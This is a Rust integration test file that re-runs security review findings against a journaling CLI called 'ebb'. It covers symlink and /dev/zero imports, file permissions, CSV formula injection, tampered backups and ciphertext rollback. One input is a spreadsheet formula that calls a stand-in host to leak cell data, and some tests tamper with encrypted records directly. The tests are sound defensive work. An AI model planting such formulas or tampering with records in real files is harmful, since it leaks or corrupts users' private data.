//! Findings of the outside security review (issue 13), each tried again through the real
//! `ebb` binary: what the review did, and what must happen now.

mod common;

use std::os::unix::fs::PermissionsExt;

use common::*;

#[test]
fn import_of_a_link_to_dev_zero_is_refused_at_once_and_changes_nothing() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "kept", "--date", "2026-11-20"]).ok();
    let before = s.export();
    let link = s.path("looks-like-an-export.json");
    std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
    // Before: the size check read a length of 0 and the read ran out of memory.
    let err = s.ebb(&["import", link.to_str().unwrap()]).fails(2);
    assert!(err.contains("is not a file Ebb can import"), "{err}");
    let mut after = s.export();
    after["exported_at"] = before["exported_at"].clone();
    assert_eq!(after, before);
}

#[test]
fn output_onto_an_open_file_makes_it_private_and_a_link_is_not_followed() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "private words", "--date", "2026-11-20"]).ok();
    let out = s.path("export.csv");
    std::fs::write(&out, "someone else's much longer file").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    s.ebb(&["export", "--format", "csv", "-o", out.to_str().unwrap()]).ok();
    // Before: the file stayed 0644 (readable by every user) while the CLI said "keep it private".
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(std::fs::read_to_string(&out).unwrap().contains("private words"));

    let target = s.path("shared-notes.txt");
    std::fs::write(&target, "not to be touched").unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    let link = s.path("report.md");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    s.ebb(&["report", "--format", "markdown", "-o", link.to_str().unwrap()]).ok();
    // Before: the report went through the link into the other file.
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "not to be touched");
    let meta = std::fs::symlink_metadata(&link).unwrap();
    assert!(meta.file_type().is_file() && meta.permissions().mode() & 0o777 == 0o600);
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert() {
    let s = Scratch::with_journal();
    s.ebb(&[
        "write",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
        "--date",
        "2026-11-20",
        "--tag",
        "@home",
    ])
    .ok();
    s.ebb(&[
        "episode",
        "--kind",
        "pursuit",
        "--actor",
        "me",
        "--trigger",
        "+1 more late night",
        "--at",
        "2026-11-21 21:00",
    ])
    .ok();
    s.ebb(&["write", "a plain day - nothing to run", "--date", "2026-11-22"]).ok();
    let csv = s.ebb(&["export", "--format", "csv"]).ok();
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let head = r.headers().unwrap().clone();
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    let cells: Vec<&str> = rows.iter().flat_map(|row| row.iter()).collect();
    // Before: each of these began with = + @, which Excel and LibreOffice evaluate.
    for cell in &cells {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a live formula: {cell:?}\n{csv}");
    }
    let texts: Vec<&str> = rows.iter().map(|row| &row[col("text")]).collect();
    assert!(texts.contains(&"'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"), "{texts:?}");
    assert!(texts.contains(&"a plain day - nothing to run"), "{texts:?}");
    assert!(rows.iter().any(|row| &row[col("tags")] == "'@home"));
    assert!(rows.iter().any(|row| &row[col("trigger")] == "'+1 more late night"));
}

#[test]
fn a_tampered_journal_is_not_backed_up_and_the_clean_backups_stay() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "a clean day", "--date", "2026-11-20"]).ok();
    let backups = s.journal().parent().unwrap().join("backups");
    let clean: Vec<_> = files_below(&backups);
    assert_eq!(clean.len(), 1, "today's clean backup: {clean:?}");
    let before = std::fs::read(&clean[0]).unwrap();
    // Someone alters the records and removes today's backup, so a new one is due.
    let c = raw(&s.journal());
    c.execute("UPDATE records SET ciphertext = CAST(ciphertext AS BLOB) || x'00'", []).unwrap();
    drop(c);
    std::fs::remove_file(&clean[0]).unwrap();
    let out = s.ebb(&["write", "another day", "--date", "2026-11-21"]);
    // Before: the tampered file was copied into backups/ before anything was checked.
    assert!(out.stderr.contains("today's automatic backup could not be made"), "{}", out.stderr);
    assert!(files_below(&backups).is_empty(), "{:?}", files_below(&backups));
    std::fs::write(&clean[0], &before).unwrap();
    // And an older clean backup is never pruned by a damaged journal's visit.
    s.ebb(&["write", "a third day", "--date", "2026-11-22"]);
    assert_eq!(std::fs::read(&clean[0]).unwrap(), before);
}

#[test]
fn a_record_deleted_and_brought_back_cannot_be_rolled_back_to_an_old_version() {
    let s = Scratch::with_journal();
    let id =
        s.ebb(&["write", "first words", "--date", "2026-11-20"]).json()["id"].as_str().unwrap().to_owned();
    let export = s.path("before.json");
    s.ebb(&["export", "-o", export.to_str().unwrap()]).ok();
    s.ebb(&["edit", &id, "--text", "second words"]).ok();
    let bytes = uuid::Uuid::parse_str(&id).unwrap().as_bytes().to_vec();
    let row = |c: &rusqlite::Connection| -> (i64, Vec<u8>, Vec<u8>) {
        c.query_row("SELECT version, nonce, ciphertext FROM records WHERE id = ?1", [&bytes], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .unwrap()
    };
    let second = row(&raw(&s.journal()));
    // Deleted, brought back by importing the earlier export, then edited again.
    s.ebb(&["delete", &id]).ok();
    s.ebb(&["import", export.to_str().unwrap()]).ok();
    s.ebb(&["edit", &id, "--text", "third words"]).ok();
    let third = row(&raw(&s.journal()));
    assert!(third.0 > second.0, "a version came round again: {} after {}", third.0, second.0);
    // Someone puts the "second words" ciphertext back in place of the current one.
    raw(&s.journal())
        .execute(
            "UPDATE records SET version = ?1, nonce = ?2, ciphertext = ?3 WHERE id = ?4",
            rusqlite::params![second.0, second.1, second.2, bytes],
        )
        .unwrap();
    // Before: versions restarted at 1 after the delete, so (id, 2) was valid again and
    // `verify` said every record was intact while showing the rolled-back text.
    let err = s.ebb(&["verify"]).fails(4);
    assert!(err.contains("integrity summary"), "{err}");
}

#[test]
fn output_to_standard_output_by_name_still_works() {
    let s = Scratch::with_journal();
    s.ebb(&["write", "to the pipe", "--date", "2026-11-20"]).ok();
    // Here stdout is a pipe: written as it is, not replaced by a file.
    let out = s.ebb(&["export", "-o", "/dev/stdout"]).ok();
    assert!(out.contains("to the pipe"), "{out}");
}
